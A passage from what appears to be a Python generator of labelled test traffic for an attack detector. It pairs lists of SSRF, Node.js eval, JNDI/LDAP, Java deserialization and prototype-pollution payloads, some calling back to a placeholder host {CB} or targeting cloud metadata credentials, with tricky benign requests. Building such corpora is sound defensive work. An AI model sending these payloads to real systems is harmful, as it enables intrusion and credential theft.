    "<default><size>2</size></default></java.util.PriorityQueue></java.util.PriorityQueue>",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{CB}/{M}\"]]]]",
    "{\"@class\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://{CB}/{M}\"}",
    "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
    "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
]

# ---------------------------------------------------------------- generic
GENERIC = {
    "ssrf-metadata": [
        "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://100.100.100.200/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.170.2/v2/credentials",
        "http://metadata/computeMetadata/v1/", "http://169.254.169.254/openstack/latest/meta_data.json",
        "http://169.254.169.254/computeMetadata/v1/",
    ],
    "ssrf-metadata-notation": [
        "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://169.254.43518/latest/", "http://0xa9.0xfe.0xa9.0xfe/latest/", "http://instance-data/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/",
    ],
    "ssrf-loopback": [
        "http://127.0.0.1/", "http://localhost/", "http://127.0.0.1:22/", "http://127.0.0.1:6379/",
        "http://localhost:8080/admin", "http://[::1]/", "http://0.0.0.0/", "https://127.0.0.1:8443/",
    ],
    "ssrf-loopback-notation": [
        "http://2130706433/", "http://0x7f000001/", "http://017700000001/", "http://0177.0.0.1/", "http://127.1/",
        "http://0/", "http://[::ffff:127.0.0.1]/", "http://[0:0:0:0:0:0:0:1]/", "http://0x7f.1/",
        "http://127.000.000.001/", "http://localtest.me/", "http://127.0.0.1.nip.io/", "http://sc65@127.0.0.1/",
        "http://127.0.0.1:80\\@{CB}/",
    ],
    "ssrf-oob": ["http://{M}.{CB}/", "https://{CB}/ssrf/{M}", f"http://{CB_IP}/ssrf/{{M}}", "//{M}.{CB}/x"],
    "ssrf-scheme": [
        "gopher://127.0.0.1:6379/_INFO%0d%0a", "dict://127.0.0.1:6379/info", "file:///etc/passwd",
        "ftp://127.0.0.1/", "ldap://127.0.0.1:389/%0astats", "sftp://{CB}:22/", "tftp://{CB}/{M}",
    ],
    "nodejs-eval": [
        "res.end(String({M}*1337))", "';res.end(require('fs').readFileSync('/etc/passwd'))//",
        "require('child_process').execSync('sleep 5')", "\";require('child_process').exec('nslookup {M}.{CB}');//",
        "process.mainModule.require('child_process').execSync('id').toString()",
        "require('dns').lookup('{M}.{CB}',function(){})",
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        "';var d=Date.now();while(Date.now()-d<5000);//", "eval('{M}*1337')",
    ],
}
POLLUTION_QUERY = [
    "__proto__[sc65]={M}", "__proto__.sc65={M}", "constructor[prototype][sc65]={M}",
    "constructor.prototype.sc65={M}", "a[__proto__][sc65]={M}", "__proto__[status]=510",
    "__proto__[json spaces]=10", "__proto__[exposedHeaders]=X-Sc65",
]
POLLUTION_JSON: list[dict[str, Any]] = [
    {"__proto__": {"sc65": "{M}"}}, {"constructor": {"prototype": {"sc65": "{M}"}}},
    {"user": {"__proto__": {"isAdmin": True}}}, {"__proto__": {"json spaces": 10}}, {"__proto__": {"status": 510}},
    {"a": {"constructor": {"prototype": {"polluted": "sc65"}}}}, {"__proto__": {"exposedHeaders": ["x-sc65"]}},
]


def probes() -> list[Probe]:
    """Every probe, in order, its {M} and {CB} not yet filled."""
    out: list[Probe] = []
    out += [("sqli", "sqli-error-syntax", p, False) for p in SQLI_ERROR_SYNTAX]
    out += [("sqli", "sqli-error-syntax", "alice%bf%27", True)]
    for sub, ps in SQLI_ERROR.items():
        out += [("sqli", sub, p, False) for p in ps]
    out += [("sqli", "sqli-boolean", p, False) for pair in SQLI_BOOLEAN for p in pair]
    for sub, ps in SQLI_TIME.items():
        out += [("sqli", sub, p, False) for p in ps]
    out += [("sqli", "sqli-union", p, False) for p in _union()]
    out += [("sqli", "sqli-orderby", p, False) for p in SQLI_ORDERBY]
    for sub, ps in SQLI_OOB.items():
        out += [("sqli", sub, p, False) for p in ps]
    out += [("sqli", "sqli-stacked", p, False) for p in SQLI_STACKED]
    for sub, ps in XSS.items():
        out += [("xss", sub, p, False) for p in ps]
    out += [("xss", "xss-encoded", p, True) for p in XSS_ENCODED]
    out += [("xss", "xss-encoded", p, False) for p in XSS_EVASION]
    out += [("rce", s, p, False) for s, p in _rce_unix() + _rce_windows()]
    out += [("lfi", s, p, raw) for s, p, raw in _lfi()]
    out += [("rfi", "rfi-callback", p, "%00" in p) for p in _rfi()]
    for sub, ps in PHP.items():
        out += [("php", sub, p, False) for p in ps]
    out += [("ssti", "ssti-arith", p.replace("X", ARITH), False) for p in SSTI_ARITH]
    for sub, ps in SSTI.items():
        out += [("ssti", sub, p, False) for p in ps]
    out += [("java", "java-jndi", p, False) for p in JNDI]
    for sub, ps in JAVA.items():
        out += [("java", sub, p, False) for p in ps]
    out += [("java", "java-deser", p, False) for p in JAVA_DESER]
    for sub, ps in GENERIC.items():
        out += [("generic", sub, p, "%0" in p) for p in ps]
    return out


# ---------------------------------------------------------------- placements
REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Forwarded-For",
        "header:X-Api-Version", "param-name", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-query", "rs-header:User-Agent", "rs-form", "rs-header:Referer",
      "rs-query", "rs-json", "rs-header:X-Forwarded-For", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/search", "/login", "/api/v1/items", "/cgi-bin/test.cgi"]
# parameter names on our routes, and the scanner's own on unknown paths, by category (or sub-family prefix)
REAL_NAMES = {"sqli": ["q", "id", "sort", "filter"], "xss": ["q", "name", "display_name"],
              "rce": ["q", "host", "filename"], "lfi": ["file", "template", "q"], "rfi": ["url", "template"],
              "php": ["q", "name"], "ssti": ["name", "q"], "java": ["q", "name"],
              "ssrf": ["url", "webhook", "avatar_url"], "nodejs": ["q", "name"]}
RS_NAMES = {"sqli": ["id", "q", "page", "name"], "xss": ["q", "name", "page"], "rce": ["q", "id", "file", "name"],
            "lfi": ["file", "page"], "rfi": ["file", "page", "url"], "php": ["q", "id", "name", "page"],
            "ssti": ["name", "q"], "java": ["q", "id", "name"], "ssrf": ["url", "file", "page"],
            "nodejs": ["q", "name", "id"]}
JNDI_REAL = ["header:User-Agent", "header:Referer", "header:X-Forwarded-For", "header:X-Api-Version", "cookie",
             "query", "json"]
JNDI_RS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Forwarded-For", "rs-header:X-Api-Version",
           "rs-cookie", "rs-query"]
MANY_HEADERS = ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Accept-Language", "X-Request-Id",
                "Origin"]


def _names_key(cat: str, sub: str) -> str:
    return sub.split("-")[0] if cat == "generic" else cat


def _enc(p: str, raw: bool) -> str:
    return urllib.parse.quote(p, safe="%" if raw else "")


def _header_safe(p: str) -> bool:
    return all(32 <= ord(c) < 127 or c == "\t" for c in p)


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _real(place: str, name: str, p: str, raw: bool) -> dict[str, Any]:
    v = _enc(p, raw)
    if place == "query":
        return _get(f"/api/users?{name}={v}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", [("csrf_token", "t0k3n")]), "body": f"csrf_token=t0k3n&{name}={v}"}
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        return _with_headers(_get("/api/users?page=1"), {"Cookie": f"session=abc123; {name}={v}"})
    if place == "param-name":
        return _get(f"/api/users?{v}=1&page=1")
    if place == "path":
        return _get(f"/api/users/{v}")
    return _with_headers(_get("/api/users?page=1"), {place.split(":", 1)[1]: p})


def _rs(place: str, path: str, name: str, p: str, raw: bool) -> dict[str, Any]:
    v = _enc(p, raw)
    if place == "rs-query":
        return _get(f"{path}?{name}={v}")
    if place == "rs-form":
        return {**_form(path, [(name, "")]), "body": f"{name}={v}&submit=Search"}
    if place == "rs-json":
        return _json(path, {name: p})
    if place == "rs-cookie":
        return _with_headers(_get(path), {"Cookie": f"PHPSESSID=8f3a65c0d1e2; {name}={v}"})
    return _with_headers(_get(path), {place.split(":", 1)[1]: p})


def _pick(places: list[str], start: int, p: str) -> str:
    """The place at `start` in the rotation, or the next one that can carry `p` (no newline in a header)."""
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if "header" not in place or _header_safe(p):
            return place
    raise ValueError(p)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0

    def rec(req: dict[str, Any], cat: str, sub: str, place: str, p: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{cat}-{n:04d}", "category": cat, "sub": sub, "placement": place, "payload": p}

    for i, (cat, sub, template, raw) in enumerate(probes()):
        p = template.replace("{M}", f"65{i:03d}").replace("{CB}", CB)
        key = _names_key(cat, sub)
        real_names, rs_names = REAL_NAMES[key], RS_NAMES[key]
        rs_path = RS_PATHS[i % len(RS_PATHS)]
        if sub == "java-jndi":
            place = JNDI_REAL[i % len(JNDI_REAL)]
            yield rec(_real(place, "lang", p, raw), cat, sub, place, p)
            place = JNDI_RS[i % len(JNDI_RS)]
            yield rec(_rs(place, rs_path, "q", p, raw), cat, sub, place, p)
            many = {h: p for h in MANY_HEADERS}
            many["Cookie"] = f"session=abc123; lang={_enc(p, raw)}"
            yield rec(_with_headers(_get("/api/users?page=1" if i % 2 else "/"), many), cat, sub, "header:many", p)
            continue
        place = _pick(REAL, i, p)
        yield rec(_real(place, real_names[i % len(real_names)], p, raw), cat, sub, place, p)
        place = _pick(RS, i, p)
        yield rec(_rs(place, rs_path, rs_names[i % len(rs_names)], p, raw), cat, sub, place, p)

    base = len(probes())
    for j, template in enumerate(POLLUTION_QUERY):
        qs = template.replace("{M}", f"65{base + j:03d}")
        enc = "&".join(urllib.parse.quote(part, safe="=[]._") for part in qs.split("&"))
        yield rec(_get(f"/api/users?{enc}&page=1"), "generic", "pollution-query", "param-name", qs)
        yield rec(_get(f"{RS_PATHS[j % len(RS_PATHS)]}?{enc}"), "generic", "pollution-query", "rs-query", qs)
    base += len(POLLUTION_QUERY)
    for j, doc in enumerate(POLLUTION_JSON):
        text = json.dumps(doc).replace("{M}", f"65{base + j:03d}")
        filled = json.loads(text)
        yield rec(_json("/api/users", {"email": "a@example.org", **filled}), "generic", "pollution-json", "json", text)
        yield rec(_json("/api/v1/items", filled), "generic", "pollution-json", "rs-json", text)


# ---------------------------------------------------------------- benign
SLACK_TEXTS = [
    "the report query does a UNION of the two tables, then ORDER BY created_at desc",
    "select the plan you want and we'll update the invoice",
    "can someone review my PR? it drops the old sessions table after the migration",
    "I'm going to sleep on it and decide tomorrow",
    "the cron job sleeps 5 seconds between retries, that's intended",
    "we added WAITFOR DELAY in the SQL Server test fixture to simulate a slow replica",
    "pg_sleep in the integration test is gone, we mock the clock now",
    "the ORM builds `WHERE name LIKE ?` with a bound parameter, no string concat",
    "O'Brien's account was merged with O'Neil's by mistake, fixed now",
    "Don't forget: it's Dave's turn to run the on-call handover",
    "the union meeting is at 3pm in the big room",
    "Order by Friday if you want the team hoodie",
    "we should group by region in the dashboard, not by country",
    "the DBA says the version of MySQL is 8.0.36 on prod",
    "use `SELECT count(*) FROM orders` to sanity check the import",
    "alert: disk usage on db-2 is at 85%",
    "please don't alert the whole channel for a flaky test",
    "the onload handler in the widget fires twice on Safari",
    "wrap the script tag in the template with a nonce",
    "I swapped the <img> for an <svg> icon in the header",
    "the confirm dialog before delete is back in the admin",
    "prompt engineering workshop on Thursday, bring your laptop",
    "javascript is disabled on the kiosk browsers",
    "the data URL for the favicon is inlined by the bundler",
    "ping me when the deploy is done",
    "ping -c 3 from the bastion works, the service itself doesn't answer",
    "curl the health endpoint and paste the output here",
    "wget is not installed on the distroless image, use the sidecar",
    "nslookup resolves the new name, DNS has propagated",
    "dig shows the old TTL still, give it an hour",
    "the host command is handy for quick reverse lookups",
    "run `make test && make lint` before you push",
    "the pipeline step is `npm ci | tee install.log`",
    "echo the variable before the if, it's empty in CI",
    "whoami on the runner returns the build user, as expected",
    "timeout /T 5 in the Windows batch script waits for the service",
    "the powershell script restarts IIS on the old boxes",
    "certutil complains about the chain, the intermediate is missing",
    "cat the log and grep for 'ERROR' first",
    "type C:\\Users\\Public\\notes.txt to see the install notes on Windows",
    "the bug was a path traversal in the old export, ../ was not stripped",
    "don't link to /etc/passwd in docs examples, use /etc/hostname",
    "the config lives in C:\\ProgramData\\Acme\\config.ini on Windows",
    "win.ini is irrelevant here, it's a 16-bit leftover",
    "boot.ini was replaced by BCD ages ago",
    "the upload handler normalises the path before opening the file",
    "relative paths like ../assets/logo.png break in the email template",
    "the PHP app still uses include for the header partial",
    "phpinfo is disabled on prod, ask ops for the ini settings",
    "php://stdin is how the CLI script reads the CSV",
    "the echo statement in the template prints the user name",
    "md5 is only used for cache keys, not passwords",
    "print the stack trace in dev only",
    "the Jinja template uses {{ user.name }} and escapes by default",
    "Twig's {% for %} loop is slower than I expected",
    "ERB files use <%= %> for output, remember the html_safe rules",
    "FreeMarker's ${price} needs a number format for the euro sign",
    "our Handlebars partials use {{> header}}",
    "the Velocity templates are gone, everything is Thymeleaf now",
    "7*7 is 49, the test fixture expects 49 in the total",
    "the config uses ${HOME} and ${USER} which the shell expands",
    "Log4j was upgraded to 2.17.2 and jndi lookups are disabled",
    "the LDAP server for SSO moved to ldap.corp.example",
    "Struts is out, the last app on it was retired in March",
    "Spring Boot actuator endpoints are only on the internal port",
    "the EL expression in the JSP shows ${order.total}",
    "Java serialization is banned in new code; use JSON",
    "the class loader trace shows the plugin jar twice",
    "SpEL in @Value(\"#{systemProperties['region']}\") is fine for config",
    "the metadata service returns the instance id, nothing else is needed",
    "169.254.169.254 is blocked from the pods by the network policy",
    "localhost:8080 is the API in docker compose, 3000 the frontend",
    "127.0.0.1 is hard-coded in the test config, change it to the service name",
    "the gopher in the slides is the Go mascot",
    "file:// URLs don't work in the embedded browser",
    "the webhook URL is https://hooks.example.com/incoming/abc",
    "prototype pollution is why we freeze the config object",
    "the constructor sets default values, then the prototype methods run",
    "__proto__ shows up in the devtools, that's normal",
    "require('express') then app.use(cors())",
    "process.env.PORT is read at startup",
    "eval is banned by the linter, use JSON.parse",
    "child_process is only used by the build script",
    "the exec summary is due Friday",
    "system design review moved to 2pm",
    "the union of the two sets is what we ship",
    "drop me a line if the table layout looks wrong",
    "I'll insert the chart into the deck",
    "update: the release is on track",
    "delete the draft after you publish",
    "the select box on the form lost its label",
    "from now on, where possible, use the shared config",
    "having fun at the offsite",
    "the cast of the play was great",
    "convert the file to PDF before sending",
    "the sleep study results came in",
    "benchmark numbers are in the sheet, 5000 requests per second",
    "the WAF flagged my test with a quote in a name, reported to security",
    "OR-tools solver is in the optimization service",
    "AND gates and OR gates, it's the electronics class",
    "1=1 meetings are on Tuesdays",
    "the 'onboarding' doc has the steps",
    "what's the version of Node on the runner? 20.11",
    "we need a count of users per plan",
    "set the limit to 100 and the offset to 0",
    "char limit on the bio is 160",
    "concat the first and last name in the export",
    "the random sample is in the notebook",
    "the null values in the CSV are empty strings",
    "the information schema tab in DBeaver shows the columns",
    "x'0A' is a newline in hex, that's why the CSV broke",
    "tried `id -u` in the container, it's 1000",
    "the admin password rotation is handled by the vault, not by hand",
    "I backslashed the quote in the JSON and it parsed",
    "the template literal `${name}` works in the new builder",
    "the /admin/users/search page is slow for common names",
    "the uname on the ARM runners says aarch64",
    "the delay on the 42 bus made me late, sorry",
    "the order 42 shipped, tracking number in the ticket",
    "alice's account is locked, can someone unlock it?",
    "Bob's PR 'fix sleep in retry loop' is ready for review",
    "the tag <b> renders bold in the rich text editor",
    "I typed <3 in the chat and it showed a heart",
    "use &amp; in the XML, not a bare &",
    "the regex ^[a-z]+$ rejects uppercase names",
    "the URL has a # fragment, the server never sees it",
    "the %00 byte in the filename test is expected to fail validation",
    "the printf format %d expects an integer",
    "the sc65 ticket is about the scanner findings",
    "the pentest report lists an open redirect and a missing header, nothing else",
    "the DAST scan found no injection issues this quarter",
    "the scanner's callback domain showed up in our logs during the pentest window",
    "the SSRF fix validates the webhook host against an allowlist",
    "the XSS fix escapes the display name in the email",
    "the SQL injection training is mandatory for new hires",
    "the ticket says 'traversal' but it's really a missing auth check",
    "the test user is named Robert'); DROP TABLE Students;-- in the xkcd, not in our DB",
    "the new search supports quotes for exact phrases",
    "use double quotes \"like this\" for exact matches in search",
    "the mobile app sends the locale as en-GB",
    "the referer header is empty when coming from the app",
    "the X-Forwarded-For chain shows the load balancer first",
    "cookies are SameSite=Lax now",
    "the user agent string of the old Android app is weird but fine",
    "Thanks for the quick fix!",
    "lunch at 12:30?",
    "happy birthday Siobhán!",
    "the quarterly numbers look good",
    "who has the key to the server room?",
    "the printer on floor 3 is out of toner",
    "welcome to the team, Zoë!",
    "the VPN is flaky today",
    "the coffee machine is fixed",
    "standup moved to 9:45",
]
PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/DBMS_PIPE.html",
    "https://www.sqlite.org/lang_select.html",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://man7.org/linux/man-pages/man1/sleep.1.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ping",
    "https://www.php.net/manual/en/function.phpinfo.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://freemarker.apache.org/docs/dgui_quickstart_template.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://struts.apache.org/security/",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://nodejs.org/api/child_process.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://portswigger.net/web-security/ssrf",
    "https://github.com/acme/api/pull/65/files",
    "https://example.com/search?q=union+station&page=2",
    "https://shop.example.org/products?id=42&sort=price_asc",
    "https://www.example.co.uk/index.php?page=about",
    "https://maps.example.com/?q=Order+Street+42",
    "https://blog.example.com/2024/05/sleep-better-tips",
    "https://news.example.net/articles/alert-level-raised?ref=home",
    "https://docs.example.com/v2/select-a-plan#pricing",
    "https://example.com/files/annual-report-2023.pdf",
    "https://cdn.example.org/js/app.min.js?v=65",
    "https://api.example.com/v1/items?page=3&limit=50",
    "https://hooks.slack.com/services/T065/B065/abcdef",
    "https://en.wikipedia.org/wiki/Prototype",
    "https://en.wikipedia.org/wiki/Union_(set_theory)",
    "https://www.example.com/login?next=/dashboard",
    "https://www.example.com/cgi-bin/guestbook.pl",
    "https://localhost.example.com/docs",
    "https://status.example.com/incidents/127",
    "https://example.org/wiki/Path_(computing)#Windows",
    "https://fonts.example.com/css?family=Open+Sans:400,700",
    "https://example.com/~alice/cv.html",
    "https://example.com/a/b/../c/page.html",
]
PROSE = [
    "O'Brien", "O'Neil, Siobhán", "D'Angelo", "Jean-Luc d'Arc", "alice", "alice@example.org", "bob", "42",
    "Order 42", "union station", "select committee", "sleep clinic", "delay claim", "drop-off point",
    "table tennis club", "script writer", "alert manager", "prompt payment", "confirm booking",
    "ping pong", "curl bar", "host family", "echo chamber", "type designer", "cat sitter",
    "system administrator", "exec assistant", "passwd reset request", "win a prize", "boot camp",
    "template designer", "config manager", "proto team", "constructor company", "process engineer",
    "global sales", "require approval", "eval committee", "metadata librarian", "local host",
    "Rock 'n' Roll", "Guns N' Roses", "it's complicated", "\"exact phrase\"", "name with (parentheses)",
    "50% off", "A&B Ltd", "C# developer", "C++ / Java", "user #42", "ticket 1=1 meeting",
    "and or not", "true or false quiz", "or else", "where is waldo", "from russia with love",
    "having a party", "group by size", "order by name", "like a boss", "between 5 and 10",
    "count of monte cristo", "char siu", "version 2.0", "null island", "cast iron pan",
    "convert units", "case study", "sleep 8 hours", "5 seconds", "wait for delay notice",
    "benchmark report", "random user", "sample data", "information desk", "schema therapy",
    "Robert Tables", "Ann-Marie Smythe-Jones", "Zoë Ørsted", "José Núñez", "Łukasz Żółć",
    "李小龍", "Mohammed al-Rashid", "Nguyễn Văn An", "Olusegun Obasanjo", "Åsa Ödegaard",
    "Main St. 42, Apt. 3", "10 Downing Street", "1600 Amphitheatre Pkwy", "Rue de l'Église 5",
    "P.O. Box 127", "Unit 4/12 King's Rd", "Flat 2; 3rd floor", "Building C | Door 2",
    "left & right", "a | b", "x > y", "3 < 4", "ratio 2:1",
]
SEARCHES = [
    "alice", "bob smith", "o'brien", "O'Neil", "d'angelo", "mc'donald", "42", "1337", "65", "user 42",
    "admin", "support", "billing", "ops", "sales team", "union", "select", "order", "group", "table",
    "drop", "delete", "insert", "update", "sleep", "delay", "wait", "benchmark", "version", "database",
    "script", "alert", "prompt", "confirm", "onload", "image", "svg", "iframe", "javascript", "data",
    "ping", "curl", "wget", "host", "dig", "echo", "cat", "type", "id", "whoami", "timeout", "certutil",
    "etc", "passwd", "win.ini", "boot", "windows", "proc", "self", "environ", "file", "include", "php",
    "phpinfo", "filter", "input", "expect", "zip", "phar", "template", "jinja", "twig", "config", "jndi",
    "ldap", "rmi", "dns", "log4j", "struts", "spring", "class", "loader", "module", "metadata", "localhost",
    "127.0.0.1", "instance", "gopher", "dict", "proto", "constructor", "prototype", "require", "process",
    "eval", "exec", "system", "7*7", "49", "{{name}}", "${price}", "#{id}", "a & b", "a|b", "a;b", "x-y",
    "email@example.com", "+44 20 7946 0958", "2024-06-01", "10:30", "50%", "c#", "c++", "node.js",
    ".net", "r&d", "q&a", "t-shirt", "rock 'n' roll", "it's", "don't", "can't", "won't", "we're",
    "\"quoted\"", "(draft)", "[archived]", "<none>", "n/a", "~alice", "@bob", "#general",
]
SITE_SEARCHES = [
    ("/search", "q", "running shoes"), ("/search", "q", "union jack flag"), ("/search", "q", "order tracking"),
    ("/search", "q", "sleep mask"), ("/search", "q", "O'Neill jacket"), ("/search", "q", "select comfort"),
    ("/search", "q", "script font"), ("/search", "q", "alert bracelet"), ("/search", "q", "ping pong table"),
    ("/search", "q", "cat food"), ("/search", "q", "windows 11 laptop"), ("/search", "q", "php book"),
    ("/search", "q", "java coffee"), ("/search", "q", "jinja ninja"), ("/search", "q", "7 x 7 rug"),
    ("/search", "q", "drop earrings"), ("/search", "q", "delay pedal"), ("/search", "q", "echo dot"),
    ("/index.php", "page", "about"), ("/index.php", "page", "contact"), ("/index.php", "page", "home"),
    ("/index.php", "page", "2"), ("/index.php", "id", "42"), ("/index.php", "name", "alice"),
    ("/index.php", "file", "report.pdf"), ("/index.php", "file", "images/logo.png"),
    ("/index.php", "url", "https://example.com/"), ("/index.php", "page", "terms-and-conditions"),
    ("/api/v1/items", "id", "65"), ("/api/v1/items", "page", "3"), ("/api/v1/items", "q", "red chair"),
    ("/api/v1/items", "name", "Union Jack mug"), ("/api/v1/items", "q", "table lamp"),
    ("/api/v1/items", "q", "it's a gift"), ("/login", "next", "/dashboard"), ("/login", "name", "alice"),
    ("/", "q", "where to buy"), ("/", "page", "1"), ("/", "url", "https://partner.example.net/offer"),
    ("/cgi-bin/test.cgi", "name", "bob"), ("/cgi-bin/test.cgi", "q", "hello world"),
    ("/search", "q", "100% cotton"), ("/search", "q", "a & b"), ("/search", "q", "\"exact phrase\""),
    ("/search", "name", "D'Arcy"), ("/search", "q", "rock & roll"), ("/search", "q", "c++ primer"),
    ("/search", "q", "order by price"), ("/search", "q", "cast iron"), ("/search", "q", "host gift"),
]
PROFILES = [
    {"name": "Siobhán O'Connor", "bio": "SQL nerd. I write SELECT statements for fun and ORDER BY date.",
     "address": "12 Church St, Cork"},
    {"name": "Dave D'Souza", "bio": "Ops. I ping things and curl things; sleep is optional.",
     "address": "Unit 3, 45 King's Road"},
    {"name": "Zoë Ørsted", "bio": "Frontend dev: <svg> icons, onload handlers and accessibility.",
     "address": "Nørrebrogade 10, 2200 København"},
    {"name": "José Núñez", "bio": "Java & Spring, EL expressions, Log4j upgrades.", "address": "Calle Mayor 5"},
    {"name": "Ann-Marie Smythe-Jones", "bio": "Security trainer: SQL injection, XSS and SSRF workshops.",
     "address": "Flat 2, 3 Union Street"},
    {"name": "Mohammed al-Rashid", "bio": "Python and Jinja templates; {{ }} all day.",
     "address": "PO Box 127, Dubai"},
    {"name": "Łukasz Żółć", "bio": "PHP 8 developer, phpinfo() is my friend on dev boxes.",
     "address": "ul. Długa 42, Gdańsk"},
    {"name": "Nguyễn Văn An", "bio": "Cloud engineer; metadata services and IAM roles.",
     "address": "42 Lê Lợi, Huế"},
    {"name": "Robert Tables", "bio": "Yes, that's my real surname. No, I don't drop tables.",
     "address": "1 Main St."},
    {"name": "Åsa Ödegaard", "bio": "Node.js, prototypes and constructors; I freeze my objects.",
     "address": "Storgatan 7, Umeå"},
    {"name": "Olusegun Obi", "bio": "Windows admin: powershell, ping -n, timeout /T and certutil.",
     "address": "15 Broad St, Lagos"},
    {"name": "Kai O'Hara", "bio": "Writes docs about ../relative/paths and C:\\Program Files installs.",
     "address": "7 Harbour View"},
    {"name": "Priya Raman", "bio": "Template engines: Twig, FreeMarker, Velocity, ERB.",
     "address": "22 MG Road, Bengaluru"},
    {"name": "Li Wei", "bio": "DBA: MySQL, PostgreSQL, SQL Server, Oracle, SQLite.", "address": "88 Nanjing Rd"},
    {"name": "Grace Hopper-Lee", "bio": "Compilers, COBOL, and the occasional sleep(5) in a test.",
     "address": "Arlington, VA"},
    {"name": "Marta Kowalska", "bio": "QA: I test names like O'Neil and \"quoted\" titles.",
     "address": "ul. Polna 1"},
]
BENIGN_UA = [
    UA,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
    "AcmeApp/6.5.0 (Android 14; Pixel 8; en_GB)",
    "AcmeApp/6.5.0 (iOS 17.5; iPhone15,2; de_DE)",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "curl/8.8.0",
    "Go-http-client/2.0",
    "Java/17.0.11",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.39.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
BENIGN_REFERERS = [
    "https://www.google.com/", "https://app.example.com/admin/users/search?q=o%27brien",
    "https://app.example.com/dashboard?tab=orders&sort=created_at", "https://example.com/search?q=union+station",
    "https://t.co/abc123", "https://www.bing.com/search?q=sleep+tips", "https://example.com/index.php?page=about",
    "https://docs.example.com/guide/templates#syntax", "https://app.example.com/users/42",
    "https://example.org/blog/2024/06/alert-fatigue", "android-app://com.acme.app/",
]
BENIGN_XFF = ["203.0.113.7", "198.51.100.23, 10.0.0.5", "2001:db8::1", "192.0.2.44, 172.16.0.3, 10.1.2.3",
              "127.0.0.1", "10.0.0.12"]
BENIGN_COOKIES = [
    "session=abc123; lang=en-GB", "session=abc123; theme=dark; tz=Europe%2FLondon",
    "PHPSESSID=8f3a65c0d1e2; cart=3", "session=abc123; last_search=o%27brien",
    "session=abc123; prefs=%7B%22sort%22%3A%22name%22%2C%22order%22%3A%22asc%22%7D",
    "_ga=GA1.2.123456789.1719000000; session=abc123", "session=abc123; consent=analytics%3Dno%26ads%3Dno",
    "session=abc123; recent=union%20station%7Csleep%20mask",
]


def _searches() -> Iterator[dict[str, Any]]:
    for k, text in enumerate(SEARCHES):
        yield _get(_query("/api/users", [("q", text), ("page", str(1 + k % 3))]))
        yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)])


def _site_searches() -> Iterator[dict[str, Any]]:
    for _k, (path, name, value) in enumerate(SITE_SEARCHES):
        yield _get(_query(path, [(name, value)]))
        yield {**_form(path, [(name, value), ("submit", "Search")]), "headers": {
                "User-Agent": UA, "Accept": "text/html", "Content-Type": "application/x-www-form-urlencoded"}}


def _profiles() -> Iterator[dict[str, Any]]:
    for doc in PROFILES:
        yield _json("/api/users", {"email": "user@example.org", **doc})
        yield _json("/api/users/42", {"display_name": doc["name"], "address": doc["address"]})


def _headers() -> Iterator[dict[str, Any]]:
